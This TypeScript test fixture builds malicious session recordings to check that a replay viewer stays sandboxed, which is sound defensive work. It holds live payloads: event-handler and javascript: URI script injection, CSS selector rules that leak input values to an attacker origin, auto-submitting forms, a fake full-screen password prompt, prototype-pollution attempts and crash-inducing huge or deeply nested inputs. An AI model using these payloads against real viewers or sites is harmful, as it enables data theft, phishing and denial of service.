import type { RecordedEvent } from '@falter/wire';
import {
  attributeChange,
  element,
  hostileRecording,
  hostileRecordings,
  text,
} from '../../../apps/viewer/src/testing/test-hostile.ts';
import { HANDLERS } from './handlers.ts';

type Node = ReturnType<typeof element>;

const START = 1_790_000_000_000;
/** A text in whose place `linesOf` puts a tree that is deeper than JSON.stringify can go. */
const DEEP = 'ten thousand levels';

const RUN = "top.__ran = parent.__ran = true; fetch('/ran')";

const change = (data: Record<string, unknown>, at = 1_200): RecordedEvent => ({
  type: 3,
  timestamp: START + at,
  data,
});

const mutation = (part: Record<string, unknown>): RecordedEvent =>
  change({ source: 0, adds: [], removes: [], texts: [], attributes: [], ...part });

function nested(levels: number, inner: Node, wrap: (inner: Node) => Node): Node {
  let node = inner;
  for (let level = 0; level < levels; level++) node = wrap(node);
  return node;
}

const body = (...nodes: Node[]): RecordedEvent[] => hostileRecording([], nodes);
const sheet = (css: string): RecordedEvent[] =>
  hostileRecording([element('style', { attributes: { _cssText: css } })], []);
const followedBy = (...events: RecordedEvent[]): RecordedEvent[] => [...hostileRecording([], []), ...events];
const withEvents = (make: (events: RecordedEvent[]) => RecordedEvent[]): RecordedEvent[] =>
  make(hostileRecording([], []));

/**
 * Recordings that somebody made to harm whoever watches them, by what they try. `evil` is an origin that counts who calls. Those that
 * have nothing to show may fail to open, in words; none may run anything, call anybody or take the tab with it.
 */
export function hostileCases(evil: string): Record<string, RecordedEvent[]> {
  const src = (path: string): string => `${evil}/${path}`;
  const all = Object.fromEntries(HANDLERS.map((name) => [name, RUN]));
  return {
    ...hostileRecordings(evil),
    'every handler there is': body(
      ...['img', 'svg', 'body', 'details', 'input', 'video', 'marquee', 'audio', 'form', 'select'].map((tag) =>
        element(tag, { attributes: { ...all, src: 'x:broken', open: '' } }),
      ),
    ),
    'entities and vbscript': body(
      ...['&#106;avascript:', 'JaVaScRiPt:', ' javascript:', 'vbscript:', 'data:text/html;base64,'].map((scheme) =>
        element('a', { attributes: { href: `${scheme}${RUN}`, xlinkHref: `${scheme}${RUN}` }, children: [text('x')] }),
      ),
    ),
    'frames in frames': body(
      nested(5, element('script', { children: [text(RUN)] }), (inner) =>
        element('iframe', { attributes: { srcdoc: `<script>${RUN}</script>`, src: src('f') }, children: [inner] }),
      ),
      element('portal', { attributes: { src: src('p') } }),
      element('fencedframe', { attributes: { src: src('ff') } }),
    ),
    'applets and framesets': body(
      element('applet', { attributes: { code: 'x', codebase: evil } }),
      element('frameset', { children: [element('frame', { attributes: { src: src('fr') } })] }),
    ),
    'values sent by selectors': sheet(
      `input[value^=a] { background: url(${src('a')}) } p::before { content: attr(id) url(${src('b')}) } a:visited { color: red } ` +
        `@property --x { syntax: '<url>'; inherits: true; initial-value: url(${src('c')}) } p { background: var(--x) }`,
    ),
    'escaped addresses in css': sheet(
      `p { background: u\\72l(${src('e')}); background-image: URL( "${src('g')}" ); src: url(${src('h')}\\)) } @IMPORT '${src('i')}';`,
    ),
    'a sign-in over everything': body(
      element('div', {
        attributes: { style: 'position:fixed;inset:0;z-index:2147483647;background:#fff', popover: '' },
        children: [element('input', { attributes: { type: 'password', autofocus: '' } })],
      }),
    ),
    'forms that send themselves': body(
      element('form', {
        attributes: { action: src('form'), method: 'post', target: '_blank', onsubmit: RUN },
        children: [element('button', { attributes: { type: 'submit', formaction: src('fa'), autofocus: '' } })],
      }),
    ),
    'a picture of megabytes': body(
      element('video', { attributes: { src: `data:video/mp4;base64,${'A'.repeat(8_000_000)}`, autoplay: '' } }),
    ),
    'nested filters': body(
      element('svg', {
        isSVG: true,
        children: [
          nested(300, element('feImage', { isSVG: true, attributes: { href: src('fe') } }), (inner) =>
            element('filter', { isSVG: true, attributes: { id: 'f', filter: 'url(#f)' }, children: [inner] }),
          ),
          element('foreignObject', { isSVG: true, children: [element('iframe', { attributes: { src: src('fo') } })] }),
          element('animate', { isSVG: true, attributes: { attributeName: 'href', to: `javascript:${RUN}` } }),
        ],
      }),
    ),
    'ten thousand gradients': body(
      element('svg', {
        isSVG: true,
        children: Array.from({ length: 10_000 }, (_, n) =>
          element('linearGradient', { isSVG: true, attributes: { id: `g${n}` } }),
        ),
      }),
    ),
    'css that nests ten thousand levels': sheet('a{'.repeat(10_000)),
    'five megabytes of hover': sheet('.a:hover{color:red}\n'.repeat(260_000)),
    'a tree of ten thousand levels': body(text(DEEP)),
    'a hundred thousand siblings': body(...Array.from({ length: 100_000 }, () => element('i'))),
    'an attribute of twenty megabytes': body(element('p', { attributes: { title: 'x'.repeat(20_000_000) } })),
    'no snapshot': withEvents((events) => events.filter(({ type }) => type !== 2)),
    'a snapshot of nothing': withEvents((events) =>
      events.map((event) => (event.type === 2 ? { ...event, data: { node: null } } : event)),
    ),
    'nodes without children': body({ ...element('div'), childNodes: undefined }),
    'names that are no names': body(element('a b<c>'), element('x'.repeat(100_000)), element('')),
    'changes of nodes that are not there': followedBy(
      mutation({ removes: [{ parentId: 1, id: 1 }] }),
      mutation({ adds: [{ parentId: 77_777, nextId: 88_888, node: element('b') }] }),
      mutation({ attributes: [{ id: 99_999, attributes: { src: src('late') } }] }),
      mutation({ texts: [{ id: 99_998, value: RUN }] }),
    ),
    'nodes that are their own parents': followedBy(
      mutation({ adds: [{ parentId: 900_001, nextId: null, node: { ...element('b'), id: 900_001 } }] }),
    ),
    'times of other centuries': followedBy(
      { ...mutation({}), timestamp: 253_402_300_799_000 },
      { ...mutation({}), timestamp: -1 },
      { ...mutation({}), timestamp: Number.NaN },
    ),
    'windows of no size': withEvents((events) =>
      events.map((event) => (event.type === 4 ? { ...event, data: { ...event.data, width: 0, height: -5 } } : event)),
    ),
    'scrolled beyond all pages': followedBy(change({ source: 3, id: 1, x: 1e12, y: -1e12 })),
    'canvas calls on prototypes': followedBy(
      change({ source: 9, id: 3, type: 0, commands: [{ property: 'constructor', args: [RUN] }] }),
      change({ source: 9, id: 3, type: 0, commands: [{ property: '__proto__', args: [{}], setter: true }] }),
      change({
        source: 9,
        id: 3,
        type: 0,
        commands: [{ property: 'drawImage', args: [{ rr_type: 'Image', src: src('draw') }] }],
      }),
    ),
    'elements of somebody else': body(
      element('x-evil', { attributes: { is: 'x-evil' } }),
      element('template', {
        attributes: { shadowrootmode: 'open' },
        children: [element('slot', { attributes: { name: 's' } })],
      }),
    ),
    'names that hide our own': body(
      ...['location', 'parent', 'document', 'app', 'player', 'getElementById'].map((name) =>
        element('form', {
          attributes: { id: name, name },
          children: [element('input', { attributes: { name: 'nodeName' } })],
        }),
      ),
    ),
    'plugins that say html': followedBy(
      {
        type: 6,
        timestamp: START + 1_300,
        data: {
          plugin: 'rrweb/console@1',
          payload: {
            level: 'log',
            trace: [],
            payload: [`<img src=${src('log')} onerror="${RUN}">`, `%c${'x'.repeat(1_000_000)}`],
          },
        },
      },
      {
        type: 5,
        timestamp: START + 1_300,
        data: { tag: `<script>${RUN}</script>`, payload: { __proto__: { ran: true } } },
      },
    ),
    'changed into something else': withEvents((events) => {
      const link = element('link');
      const image = element('img');
      return [
        ...hostileRecording([link], [image]),
        attributeChange(link.id, { rel: 'prefetch', href: src('pf') }),
        attributeChange(image.id, {
          src: src('im'),
          srcset: `${src('ss')} 2x`,
          onerror: RUN,
          style: { background: `url(${src('st')})` },
        }),
        ...events.slice(0, 0),
      ];
    }),
    'rules inserted later': withEvents(() => {
      const style = element('style', { attributes: { _cssText: 'p{}' } });
      return [
        ...hostileRecording([style], []),
        change({ source: 8, id: style.id, adds: [{ rule: `p { background: url(${src('rule')}) }`, index: 0 }] }),
        change({ source: 13, id: style.id, index: [0], set: { property: 'background', value: `url(${src('set')})` } }),
        change({
          source: 15,
          id: 1,
          styles: [{ styleId: 1, rules: [{ rule: `@import url(${src('ad')});`, index: 0 }] }],
          styleIds: [1],
        }),
      ];
    }),
    'fonts from elsewhere': followedBy(
      change({ source: 10, family: 'x', fontSource: `url(${src('font')})`, buffer: false }),
    ),
    'media that is played': followedBy(change({ source: 7, id: 3, type: 0, currentTime: 1e12, playbackRate: 1e6 })),
  };
}

/** The lines of a recording, as they are stored. */
export function linesOf(events: readonly RecordedEvent[], levels = 10_000): string[] {
  const opened = Array.from(
    { length: levels },
    (_, n) => `{"type":2,"id":${500_000 + n},"tagName":"div","attributes":{},"childNodes":[`,
  ).join('');
  const tree = `${opened}{"type":3,"id":499999,"textContent":"deepest"}${']}'.repeat(levels)}`;
  return events.map((event) =>
    JSON.stringify(event).replace(new RegExp(`\\{"type":3,"id":\\d+,"textContent":"${DEEP}"\\}`), () => tree),
  );
}
